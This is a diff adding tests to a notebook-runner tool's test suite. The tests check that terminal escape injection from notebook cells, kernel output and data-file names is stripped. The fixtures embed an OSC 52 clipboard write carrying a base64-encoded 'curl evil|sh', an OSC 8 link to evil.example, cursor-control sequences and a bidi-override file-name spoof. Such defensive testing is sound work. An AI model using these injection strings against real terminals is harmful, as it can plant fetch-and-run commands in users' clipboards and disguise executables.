@@ -10,6 +10,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -377,6 +378,57 @@ def test_default_output_name_and_log_output(tmp_path):
     assert r.returncode == 0, r.stderr
     assert "logged line" in r.stderr
     assert (tmp_path / "nb.out.ipynb").is_file()
+
+
+def test_kernel_and_notebook_text_reach_the_terminal_without_escapes(tmp_path):
+    """A cell's first line, its stream (`--log-output`) and its exception
+    carry a clipboard write (OSC 52), a link (OSC 8), cursor moves and a bidi
+    override: none reaches noyau's stderr or stdout, the traceback keeps its
+    colours, and the notebook keeps what the kernel sent."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07"
+    link = "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\"
+    stream = "before\x1b[1A\x1b[2Kafter\n"
+    src = write(tmp_path / "nb.ipynb", notebook(
+        f"# first line {link} \u202e!\nprint({stream[:-1]!r})",
+        f"raise ValueError('boom' + {osc52 + chr(27) + '[1A'!r})",
+    ))
+    # Progress on (plain lines, stderr is a pipe), so the first lines show.
+    r = subprocess.run([NOYAU, "run", str(src), "--log-output"],
+                       capture_output=True, text=True, timeout=120)
+    assert r.returncode != 0, r.stderr
+    shown = r.stdout + r.stderr
+    for raw in ["\x1b]", "\x1b[1A", "\x1b[2K", "\x07", "\u202e", "evil.example"]:
+        assert raw not in shown, (raw, shown)
+    assert "# first line link" in r.stderr, r.stderr
+    assert "beforeafter" in r.stderr, r.stderr
+    # The clipboard's payload went with its sequence (the traceback quotes
+    # the cell's source, where it is written escaped).
+    assert "noyau: cell 2 (In [2]) raised ValueError: boom\n" in r.stderr, r.stderr
+    # ipykernel's coloured traceback, colours kept.
+    assert re.search(r"\x1b\[[0-9;]*m[^\n]*ValueError", r.stderr), r.stderr
+    out = json.loads((tmp_path / "nb.out.ipynb").read_text())
+    code = [c for c in out["cells"] if c["cell_type"] == "code"]
+    assert "".join(code[0]["outputs"][0]["text"]) == stream
+    assert code[1]["outputs"][0]["evalue"] == "boom" + osc52 + "\x1b[1A"
+
+
+def test_a_data_name_from_the_notebook_never_reaches_the_terminal_raw(tmp_path):
+    """`metadata.noyau.data` is read and its names printed while the
+    environment is prepared, before any cell runs: a name carrying OSC 52 or
+    a bidi override is refused, and the refusal shows it escaped."""
+    payload = tmp_path / "table.csv"
+    payload.write_bytes(b"a,b\n1,2\n")
+    sha = hashlib.sha256(payload.read_bytes()).hexdigest()
+    name = "t\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\u202ecsv.exe"
+    src = write(tmp_path / "nb.ipynb", notebook(
+        "print('ran')",
+        metadata={"noyau": {"data": [{"url": f"file://{payload}", "sha256": sha, "name": name}]}}))
+    env = dict(os.environ, XDG_CACHE_HOME=str(tmp_path / "cache"))
+    r = subprocess.run([NOYAU, "run", str(src)], capture_output=True, text=True, timeout=120, env=env)
+    shown = r.stdout + r.stderr
+    for raw in ["\x1b", "\x07", "\u202e"]:
+        assert raw not in shown, (raw, shown)
+    assert r.returncode != 0 and "cannot name a data file" in r.stderr, r.stderr
 
 
 def no_kernelspec_env(tmp_path, keep=()):
